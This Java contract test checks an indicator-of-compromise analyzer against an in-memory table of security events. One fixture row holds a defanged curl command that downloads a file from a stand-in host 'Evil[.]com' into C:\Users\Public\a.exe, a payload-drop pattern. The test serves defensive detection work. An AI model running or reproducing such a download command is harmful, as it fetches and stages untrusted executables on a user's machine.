package dev.spoor.analyzer.ioc;

import static dev.spoor.tck.Rows.row;

import dev.spoor.api.Analyzer;
import dev.spoor.api.data.Column;
import dev.spoor.api.data.Role;
import dev.spoor.api.data.RowId;
import dev.spoor.api.data.Schema;
import dev.spoor.api.data.Type;
import dev.spoor.tck.AnalyzerContract;
import dev.spoor.tck.MemoryInputs;
import dev.spoor.tck.Rows;
import java.nio.charset.StandardCharsets;

class ContractTest extends AnalyzerContract {
    private static final Schema EVENTS = Schema.of(
            Column.of("_row", Role.ORIGIN),
            Column.of("CommandLine", Role.COMMAND_LINE),
            Column.of("Details", Type.JSON),
            Column.of("Raw", Type.BYTES),
            Column.of("n", Type.LONG));

    @Override
    protected Analyzer provider() {
        return new IocAnalyzer();
    }

    @Override
    protected MemoryInputs inputs() {
        return new MemoryInputs()
                .table(
                        "Events",
                        Rows.batch(
                                EVENTS,
                                row(
                                        new RowId(1, 0).packed(),
                                        "curl hxxp://Evil[.]com/a -o C:\\Users\\Public\\a.exe",
                                        "{\"ip\":\"198.51.100.4\"}",
                                        "10.9.8.7".getBytes(StandardCharsets.UTF_8),
                                        7),
                                row(new RowId(1, 1).packed(), null, null, null, null),
                                row(new RowId(1, 2).packed(), "ping 203.0.113.7", "[1, \"a@example.net\"]", null, 1)));
    }
}
